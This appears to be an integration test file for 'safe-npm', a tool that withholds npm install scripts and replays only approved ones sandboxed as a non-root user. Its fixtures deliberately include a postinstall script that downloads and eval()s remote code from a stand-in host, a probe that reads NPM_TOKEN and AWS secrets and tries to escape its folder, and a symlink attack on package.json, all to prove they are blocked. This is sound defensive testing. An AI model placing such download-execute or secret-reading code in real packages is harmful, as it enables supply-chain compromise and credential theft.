/**
 * Issue 3 end to end: bin/safe-npm.js installs with scripts off, then replays only approved
 * install scripts with its own runner — dependencies first, as a non-root user, scrubbed env,
 * sandboxed when bwrap exists. Proven with markers on disk and stat.
 */
import { chmodSync, chownSync, existsSync, lchownSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { createServer, type AddressInfo, type Server } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { findBwrap } from '../../src/npm/scripts/sandbox.js';
import { lookupUser } from '../../src/run/users.js';
import { makeProject, makeTempDir } from '../helpers/projects.js';
import { makeSandbox, runBin, runTool, SYSTEM_PATH, type RunResult, type Sandbox } from '../helpers/run-bin.js';
import { startVerdaccio, type VerdaccioServer } from '../helpers/verdaccio.js';

const NOBODY = 65534;
const old = new Date(Date.now() - 500 * 86_400_000);
const hasBwrap = Boolean(findBwrap());
let registry: VerdaccioServer;
let cacheRoot: string;

const show = (r: RunResult) => `exit ${r.exitCode}\nstdout: ${r.stdout}\nstderr: ${r.stderr}`;
/** Writes `<event> <monotonic ns> <uid>` into a marker in the package's own folder. */
const mark = (file: string) =>
  `node -e "require('fs').appendFileSync('${file}', process.env.npm_lifecycle_event + ' ' + process.hrtime.bigint() + ' ' + process.getuid() + '\\\\n')"`;

function pkg(name: string, version: string, packageJson: Record<string, unknown>, files: Record<string, string> = {}) {
  return { name, version, publishedAt: old, packageJson: { description: name, repository: `https://example.invalid/${name}`, ...packageJson }, files };
}

let listener: Server;

beforeAll(async () => {
  cacheRoot = await makeTempDir('safe-npm-cacheroot-');
  // The probe script tries to connect here: reachable from the host unless the sandbox cut the network.
  listener = createServer((socket) => socket.end());
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
  const port = (listener.address() as AddressInfo).port;
  registry = await startVerdaccio({
    packages: [
      pkg('dep-b', '1.0.0', { scripts: { install: mark('b-marker'), postinstall: mark('b-marker') } }),
      pkg('app-a', '1.0.0', { dependencies: { 'dep-b': '1.0.0' }, scripts: { postinstall: mark('a-marker') } }),
      pkg('unapproved-c', '1.0.0', { scripts: { postinstall: mark('c-marker') } }),
      pkg('gyp-only-addon', '1.0.0', { gypfile: true, scripts: { install: 'node-gyp rebuild' } }, {
        'binding.gyp': JSON.stringify({ targets: [{ target_name: 'addon', sources: ['addon.cc'] }] }),
        'addon.cc': '#include <node_api.h>\nstatic napi_value Init(napi_env env, napi_value exports) { napi_value v; napi_create_int32(env, 42, &v); napi_set_named_property(env, exports, "answer", v); return exports; }\nNAPI_MODULE(NODE_GYP_MODULE_NAME, Init)\n',
        'index.js': "module.exports = require('./build/Release/addon.node');\n",
      }),
      // Build tools (gyp's copy step, esbuild) hard-link their outputs.
      pkg('hardlinker', '1.0.0', { scripts: { postinstall: `node -e "require('fs').writeFileSync('built.node', 'x'); require('fs').linkSync('built.node', 'copy.node')"` } }),
      pkg('changing-e', '1.0.0', { scripts: { postinstall: mark('e-marker') } }),
      // Issue 11: the same script command, but the file it runs now downloads and evaluates code.
      pkg('content-fixture', '1.0.0', { scripts: { postinstall: 'node install.js' } }, { 'install.js': "require('fs').writeFileSync('ran-1.0.0', 'x');\n" }),
      pkg('content-fixture', '1.1.0', { scripts: { postinstall: 'node install.js' } }, {
        'install.js': [
          "require('fs').writeFileSync('ran-1.1.0', 'x');",
          "const https = require('https');",
          "https.get('https://example.invalid/stage2.js', (res) => { let b = ''; res.on('data', (c) => (b += c)); res.on('end', () => eval(b)); });",
        ].join('\n'),
      }),
      pkg('changing-e', '1.1.0', { scripts: { postinstall: `${mark('e-marker')} && echo changed` } }),
      pkg('nosy-f', '1.0.0', { scripts: { postinstall: 'node probe.js' } }, {
        'probe.js': [
          "const fs = require('fs'); const out = {};",
          'out.secret = process.env.NPM_TOKEN || process.env.AWS_SECRET_ACCESS_KEY || null;',
          // The project root two levels up belongs to the same user: only the sandbox stops this write.
          "try { fs.writeFileSync('../../escaped.txt', 'x'); out.wroteOutside = true; } catch (e) { out.wroteOutside = e.code; }",
          `const s = require('net').connect(${port}, '127.0.0.1');`,
          "s.on('connect', () => { out.socket = 'connected'; done(); }); s.on('error', (e) => { out.socket = e.code; done(); });",
          "function done() { fs.writeFileSync('probe.json', JSON.stringify(out)); s.destroy(); }",
        ].join('\n'),
      }),
    ],
  });
});

afterAll(async () => {
  await registry?.stop();
  listener?.close();
});

async function setup(owner: 'nobody' | 'root' = 'nobody', packageJson?: Record<string, unknown>) {
  const project = await makeProject({ owner, packageJson });
  const sandbox = await makeSandbox({ registry: registry.url });
  const run = (args: string[], env: Record<string, string> = {}) =>
    // SAFE_NPM_YES accepts the fixtures' warn findings (few versions): this suite is about scripts,
    // which --safe-yes never approves.
    runBin('safe-npm', args, { cwd: project, sandbox, env: { PATH: SYSTEM_PATH, SAFE_NPM_CACHE_ROOT: cacheRoot, SAFE_NPM_YES: '1', ...env } });
  return { project, sandbox, run };
}

const markerLines = (project: string, pkgName: string, file: string) =>
  existsSync(join(project, 'node_modules', pkgName, file))
    ? readFileSync(join(project, 'node_modules', pkgName, file), 'utf8').trim().split('\n').map((l) => l.split(' '))
    : [];

describe('install-script content (issue 11)', () => {
  it('an approved name whose script now downloads and evaluates code is blocked, with file and line', async () => {
    // allowScripts approves every version of "content-fixture" (npm's meaning of a bare name).
    const { project, run } = await setup('nobody', { name: 'p', version: '1.0.0', private: true, allowScripts: { 'content-fixture': true } });
    const first = await run(['install', 'content-fixture@1.0.0']);
    expect(first.exitCode, show(first)).toBe(0);
    expect(existsSync(join(project, 'node_modules/content-fixture/ran-1.0.0'))).toBe(true);
    const second = await run(['install', 'content-fixture@1.1.0']);
    expect(second.exitCode, show(second)).toBe(65);
    expect(existsSync(join(project, 'node_modules/content-fixture/ran-1.1.0')), 'the blocked script must not run').toBe(false);
    expect(second.stderr).toContain('blocked: the install scripts of content-fixture@1.1.0');
    expect(second.stderr).toMatch(/install\.js:3: evaluates code at run time in a file that downloads \(network call on line 3\) \[download-execute\]/);
  });
});

describe('vetted install-script replay through safe-npm', () => {
  it('approved scripts run dependencies first, as the non-root owner; unapproved ones are withheld and listed', async () => {
    const { project, run } = await setup('nobody');
    for (const spec of ['dep-b@1.0.0', 'app-a@1.0.0']) {
      const r = await run(['safe', 'approve', spec]);
      expect(r.exitCode, show(r)).toBe(0);
    }
    const r = await run(['install', 'app-a', 'unapproved-c']);
    expect(r.exitCode, show(r)).toBe(0);
    const b = markerLines(project, 'dep-b', 'b-marker');
    const a = markerLines(project, 'app-a', 'a-marker');
    expect(b.map((l) => l[0])).toEqual(['install', 'postinstall']);
    expect(a.map((l) => l[0])).toEqual(['postinstall']);
    expect(BigInt(b[1]![1]!) < BigInt(a[0]![1]!), 'dep-b must finish before app-a starts').toBe(true);
    // Owner by stat, not by what the script says.
    expect(statSync(join(project, 'node_modules/dep-b/b-marker')).uid).toBe(NOBODY);
    expect(existsSync(join(project, 'node_modules/unapproved-c/c-marker'))).toBe(false);
    expect(r.stderr).toMatch(/unapproved-c@1\.0\.0 .*approve with: safe-npm safe approve unapproved-c@1\.0\.0/);
    expect(r.stderr).toContain('[dep-b@1.0.0 install]');
  });

  it('strict mode exits 67 when a script is withheld; a deny is remembered and silent', async () => {
    const { run } = await setup('nobody');
    const strict = await run(['install', 'unapproved-c', '--safe-strict-scripts']);
    expect(strict.exitCode, show(strict)).toBe(67);
    const envStrict = await run(['install', 'unapproved-c'], { SAFE_NPM_STRICT_SCRIPTS: '1' });
    expect(envStrict.exitCode, show(envStrict)).toBe(67);
    expect((await run(['safe', 'deny', 'unapproved-c'])).exitCode).toBe(0);
    const denied = await run(['install', 'unapproved-c', '--safe-strict-scripts']);
    expect(denied.exitCode, show(denied)).toBe(0);
    expect(denied.stderr).not.toContain('approve with');
  });

  it('a root-owned project: the script runs as the script identity (not the install identity that owns npm\'s cache), and the package folder belongs to root again afterwards', async () => {
    const { project, run } = await setup('root');
    expect((await run(['safe', 'approve', 'dep-b@1.0.0'])).exitCode).toBe(0);
    const r = await run(['install', 'dep-b']);
    expect(r.exitCode, show(r)).toBe(0);
    const lines = markerLines(project, 'dep-b', 'b-marker');
    const scriptUid = lookupUser('_safe-npm-scripts')!.uid;
    expect(lines.map((l) => l[2])).toEqual([String(scriptUid), String(scriptUid)]);
    expect(scriptUid).not.toBe(lookupUser('_safe-npm')!.uid);
    const folder = statSync(join(project, 'node_modules/dep-b'));
    expect(folder.uid).toBe(0);
    expect(folder.mode & 0o022).toBe(0);
  });

  it('hard-linked build outputs in a root-owned project belong to root afterwards, like everything else', async () => {
    const { project, run } = await setup('root');
    expect((await run(['safe', 'approve', 'hardlinker@1.0.0'])).exitCode).toBe(0);
    const r = await run(['install', 'hardlinker']);
    expect(r.exitCode, show(r)).toBe(0);
    for (const file of ['built.node', 'copy.node']) {
      const st = statSync(join(project, 'node_modules/hardlinker', file));
      expect(st.nlink).toBe(2);
      expect(st.uid, `${file} must not stay the build user's`).toBe(0);
      expect(st.mode & 0o022).toBe(0);
    }
  });

  it('binding.gyp only: approved, really compiled by node-gyp, then required', async () => {
    const { project, run } = await setup('nobody');
    expect((await run(['safe', 'approve', 'gyp-only-addon@1.0.0'])).exitCode).toBe(0);
    const r = await run(['install', 'gyp-only-addon'], { npm_config_nodedir: '/usr' });
    expect(r.exitCode, show(r)).toBe(0);
    expect(existsSync(join(project, 'node_modules/gyp-only-addon/build/Release/addon.node'))).toBe(true);
    const use = await runTool('node', ['-e', 'console.log(require("gyp-only-addon").answer)'], { cwd: project });
    expect(use.stdout.trim(), show(use)).toBe('42');
  }, 180_000);

  it('a new version whose script changed is not covered by the old approval', async () => {
    const { project, run } = await setup('nobody');
    expect((await run(['safe', 'approve', 'changing-e@1.0.0'])).exitCode).toBe(0);
    const first = await run(['install', 'changing-e@1.0.0']);
    expect(first.exitCode, show(first)).toBe(0);
    expect(markerLines(project, 'changing-e', 'e-marker')).toHaveLength(1);
    const second = await run(['install', 'changing-e@1.1.0']);
    expect(second.exitCode, show(second)).toBe(0);
    expect(existsSync(join(project, 'node_modules/changing-e/e-marker'))).toBe(false);
    expect(second.stderr).toMatch(/changing-e@1\.1\.0 .*approve with: safe-npm safe approve changing-e@1\.1\.0/);
  });

  it('--project records the approval in package.json allowScripts, which is honoured on its own', async () => {
    const { project, run } = await setup('nobody');
    const r = await run(['safe', 'approve', 'dep-b@1.0.0', '--project']);
    expect(r.exitCode, show(r)).toBe(0);
    expect(JSON.parse(readFileSync(join(project, 'package.json'), 'utf8')).allowScripts).toEqual({ 'dep-b@1.0.0': true });
    // A teammate with an empty per-user store: the committed allowScripts is enough.
    const teammate = await makeSandbox({ registry: registry.url });
    const install = await runBin('safe-npm', ['install', 'dep-b'], { cwd: project, sandbox: teammate, env: { PATH: SYSTEM_PATH, SAFE_NPM_CACHE_ROOT: cacheRoot, SAFE_NPM_YES: '1' } });
    expect(install.exitCode, show(install)).toBe(0);
    expect(markerLines(project, 'dep-b', 'b-marker').map((l) => l[0])).toEqual(['install', 'postinstall']);
  });

  it('--project in a project another user owns: package.json is written as them, never through a link (root rewrote a root file its link led to); a TMPDIR they can write is refused', async () => {
    const { project, run } = await setup('nobody');
    const rootOnly = await makeTempDir('safe-npm-root-only-');
    chmodSync(rootOnly, 0o700);
    const victim = join(rootOnly, 'victim.json');
    writeFileSync(victim, '{\n  "secret": "root-only"\n}\n', { mode: 0o600 });
    rmSync(join(project, 'package.json'));
    symlinkSync(victim, join(project, 'package.json'));
    lchownSync(join(project, 'package.json'), 65534, 65534);
    const r = await run(['safe', 'approve', 'dep-b@1.0.0', '--project']);
    expect(r.exitCode, show(r)).toBe(64);
    expect(r.stderr).toMatch(/the project's package\.json is a link: not written through it/);
    expect(readFileSync(victim, 'utf8')).toBe('{\n  "secret": "root-only"\n}\n');
    // Root's own temp folder in a folder of theirs: refused before anything is made there.
    const theirTmp = await makeTempDir('safe-npm-their-tmp-');
    chownSync(theirTmp, 65534, 65534);
    const tmp = await run(['safe', 'approve', 'dep-b@1.0.0'], { TMPDIR: theirTmp });
    expect(tmp.exitCode, show(tmp)).toBe(64);
    expect(tmp.stderr).toMatch(/the temporary folder .* is not root's alone: .*\(uid 65534\) can be changed by someone other than root/);
    expect(readdirSync(theirTmp)).toEqual([]);
  });

  it('safe-npm rebuild replays only approved scripts, with our runner', async () => {
    const { project, run } = await setup('nobody');
    const install = await run(['install', 'dep-b', 'unapproved-c']);
    expect(install.exitCode, show(install)).toBe(0);
    expect(existsSync(join(project, 'node_modules/dep-b/b-marker'))).toBe(false);
    expect((await run(['safe', 'approve', 'dep-b@1.0.0'])).exitCode).toBe(0);
    const rebuild = await run(['rebuild']);
    expect(rebuild.exitCode, show(rebuild)).toBe(0);
    expect(markerLines(project, 'dep-b', 'b-marker')).toHaveLength(2);
    expect(existsSync(join(project, 'node_modules/unapproved-c/c-marker'))).toBe(false);
  });

  it.skipIf(!hasBwrap)('sandboxed: no secrets in the env, no writes outside the package, no network', async () => {
    const { project, run } = await setup('nobody');
    expect((await run(['safe', 'approve', 'nosy-f@1.0.0'])).exitCode).toBe(0);
    const r = await run(['install', 'nosy-f'], { NPM_TOKEN: 'npm_secret_token', AWS_SECRET_ACCESS_KEY: 'aws-secret' });
    expect(r.exitCode, show(r)).toBe(0);
    const probe = JSON.parse(readFileSync(join(project, 'node_modules/nosy-f/probe.json'), 'utf8'));
    expect(probe.secret).toBeNull();
    expect(probe.wroteOutside).toBe('EROFS');
    expect(existsSync(join(project, 'escaped.txt'))).toBe(false);
    expect(probe.socket).toMatch(/^E[A-Z]+$/);
  });
});

